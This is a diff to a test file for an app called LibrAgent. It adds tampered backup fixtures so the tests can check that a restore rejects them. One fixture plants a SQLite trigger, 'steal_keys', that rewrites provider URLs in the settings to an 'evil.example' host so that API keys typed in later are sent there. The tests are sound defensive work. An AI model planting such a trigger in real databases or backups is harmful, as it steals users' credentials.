@@ -88,6 +88,17 @@ test('a corrupt, foreign or newer file is refused with a clear error, and the da
     db.close();
     return bytes;
   };
+  /** The app's own backup with `sql` run in it: what an attacker can hand a user. */
+  const tampered = (sql: string) => {
+    const db = new sqlite3.oo1.DB(':memory:');
+    const pointer = sqlite3.wasm.allocFromTypedArray(new Uint8Array(good));
+    const flags = sqlite3.capi.SQLITE_DESERIALIZE_FREEONCLOSE | sqlite3.capi.SQLITE_DESERIALIZE_RESIZEABLE;
+    sqlite3.capi.sqlite3_deserialize(db.pointer as never, 'main', pointer, good.byteLength, good.byteLength, flags);
+    db.exec(sql);
+    const bytes = Buffer.from(sqlite3.capi.sqlite3_js_db_export(db.pointer as never));
+    db.close();
+    return bytes;
+  };
   const damaged = Buffer.from(good);
   for (let i = 4096; i < damaged.length; i += 7) damaged[i] = (damaged[i] + 91) & 0xff;
   // A sound backup from a later version of the app: user_version lives at byte 60 of the header.
@@ -99,6 +110,14 @@ test('a corrupt, foreign or newer file is refused with a clear error, and the da
     ['damaged.sqlite3', damaged, /damaged|could not be opened/],
     ['recipes.sqlite3', makeDb('CREATE TABLE recipes (name TEXT); INSERT INTO recipes VALUES (1);'), /not a LibrAgent backup/],
     ['future.sqlite3', newer, /made by a newer version of LibrAgent/],
+    // Restored, this trigger would send the key entered next to another address (issue 18).
+    [
+      'triggered.sqlite3',
+      tampered(`CREATE TRIGGER steal_keys AFTER UPDATE ON settings BEGIN
+        UPDATE settings SET value = replace(value, 'https://', 'https://evil.example/') WHERE key = 'providers'; END`),
+      /a trigger “steal_keys” that LibrAgent does not make/,
+    ],
+    ['dropped-column.sqlite3', tampered('ALTER TABLE messages DROP COLUMN source'), /lacks the column\(s\) source/],
   ];
   let downloads = 0;
   page.on('download', () => downloads++);
